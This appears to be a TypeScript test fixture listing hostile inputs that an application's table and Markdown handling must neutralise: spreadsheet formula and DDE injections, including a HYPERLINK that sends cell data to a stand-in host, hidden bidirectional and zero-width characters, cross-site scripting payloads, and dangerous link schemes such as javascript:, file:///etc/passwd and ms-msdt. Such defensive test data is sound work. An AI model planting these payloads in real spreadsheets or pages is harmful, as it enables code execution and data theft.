// Texts that are not what they look like: cells that a spreadsheet would run (hazard C18), hidden characters
// (hazard C20), and Markdown that tries to be a page (hazard C22).

/** What a cell says, as Laurel protects it when it writes a table. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://canary.example/?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+1|x',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '=IMPORTXML("https://canary.example/","//a")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=DDE("cmd";"/C calc";"x")',
  '=1+1";"=2+2',
];

/** Titles and names with something hidden in them; `points` is what a person is told. */
export const HIDDEN_TEXTS: readonly {
  readonly what: string;
  readonly text: string;
  readonly points: readonly string[];
}[] = [
  { what: 'a direction override', text: 'Larkfield\u202edrow', points: ['U+202E'] },
  {
    what: 'an override that turns the end of a name',
    text: 'certificate\u202efdp.exe',
    points: ['U+202E'],
  },
  { what: 'an embedding', text: '\u202bLarkfield\u202c', points: ['U+202B', 'U+202C'] },
  { what: 'isolates', text: 'Lark\u2066field\u2069', points: ['U+2066', 'U+2069'] },
  {
    what: 'a zero-width space in a known name',
    text: 'Lark\u200bfield Open College',
    points: ['U+200B'],
  },
  { what: 'a joiner between Latin letters', text: 'Lark\u200dfield', points: ['U+200D'] },
  { what: 'a word joiner', text: 'Lark\u2060field', points: ['U+2060'] },
  { what: 'a byte order mark inside', text: 'Lark\ufefffield', points: ['U+FEFF'] },
  { what: 'a soft hyphen', text: 'Lark\u00adfield', points: ['U+00AD'] },
  { what: 'tag characters', text: 'Lark\u{e0066}\u{e0069}field', points: ['U+E0066', 'U+E0069'] },
  { what: 'a filler that looks like a space', text: 'Lark\u3164field', points: ['U+3164'] },
  { what: 'a bell and an escape', text: 'Lark\u0007field\u001b[31m', points: ['U+0007', 'U+001B'] },
  { what: 'a line separator', text: 'Lark\u2028field', points: ['U+2028'] },
  { what: 'a mark of the Arabic letter', text: 'Lark\u061cfield', points: ['U+061C'] },
];

/** Ten thousand marks on one letter. */
export const PILE = `Larkfield${'\u0301'.repeat(10_000)}`;

const RUN = 'globalThis.polluted=1';

/** Markdown of a narrative, with the words that are left of it to read. */
export const NARRATIVES: readonly (readonly [what: string, source: string, words: string])[] = [
  ['a script', `Fine<script>${RUN}</script> work`, 'Fine work'],
  ['a script in odd letters', `Fine<ScRiPt >${RUN}</sCrIpT > work`, 'Fine work'],
  ['a picture with an error handler', `Fine <img src=x onerror="${RUN}"> work`, 'Fine work'],
  ['a drawing that runs when it is loaded', `Fine <svg/onload="${RUN}"> work`, 'Fine work'],
  ['a page inside', 'Fine <iframe src="javascript:alert(1)"></iframe> work', 'Fine work'],
  [
    'a page given as text',
    `Fine <iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe> work`,
    'Fine work',
  ],
  ['a handler on a bold word', `Fine <b onmouseover=${RUN}>bold</b> work`, 'Fine bold work'],
  [
    'a form and a button',
    `Fine <form action="https://canary.example"><button formaction="javascript:${RUN}">go</button></form> work`,
    'Fine go work',
  ],
  [
    'a style',
    'Fine <style>body{background:url(https://canary.example/x)}</style> work',
    'Fine work',
  ],
  [
    'a base and a refresh',
    'Fine <base href="https://canary.example/"><meta http-equiv="refresh" content="0;url=https://canary.example/"> work',
    'Fine work',
  ],
  [
    'an object and a film',
    'Fine <object data="https://canary.example/x"></object><embed src="x"><video src="https://canary.example/v" autoplay></video> work',
    'Fine work',
  ],
  ['a comment with a script', `Fine <!-- --><script>${RUN}</script><!-- --> work`, 'Fine work'],
  [
    'markup spelt with codes',
    `Fine &lt;img src=x onerror=${RUN}&gt; work`,
    `Fine <img src=x onerror=${RUN}> work`,
  ],
  [
    'a tag that is never closed',
    `Fine <img src="https://canary.example/x" onerror="${RUN}`,
    `Fine <img src="https://canary.example/x" onerror="${RUN}`,
  ],
  [
    'a template and its expression',
    'Fine {{constructor.constructor("1")()}} ${1+1} work',
    'Fine {{constructor.constructor("1")()}} ${1+1} work',
  ],
];

/** Links and pictures, with the address that a person would be asked about, or that is only named. */
export const LINKS: readonly (readonly [
  what: string,
  source: string,
  address: string,
  opens: boolean,
])[] = [
  [
    'an honest address',
    '[the course](https://larkfield.example/course)',
    'https://larkfield.example/course',
    true,
  ],
  ['a script', `[the course](javascript:${RUN})`, `javascript:${RUN}`, false],
  ['a script in odd letters', '[the course](JaVaScRiPt:alert)', 'JaVaScRiPt:alert', false],
  [
    'a page in the address',
    '[the course](data:text/html;base64,PHNjcmlwdD4=)',
    'data:text/html;base64,PHNjcmlwdD4=',
    false,
  ],
  ['a file of this computer', '[the course](file:///etc/passwd)', 'file:///etc/passwd', false],
  [
    'an address without encryption',
    '[the course](http://larkfield.example/)',
    'http://larkfield.example/',
    false,
  ],
  [
    'a name before the host',
    '[larkfield.example](https://larkfield.example@canary.example/)',
    'https://larkfield.example@canary.example/',
    false,
  ],
  ['another program', '[the course](ms-msdt:/id)', 'ms-msdt:/id', false],
  [
    'an address that goes on from here',
    '[the course](//canary.example/x)',
    '//canary.example/x',
    false,
  ],
  ['a script of the old kind', '[the course](vbscript:msgbox)', 'vbscript:msgbox', false],
  [
    'an address with a hidden turn',
    '[the course](https://larkfield.example/\u202egnp.exe)',
    'https://larkfield.example/\u202egnp.exe',
    false,
  ],
];
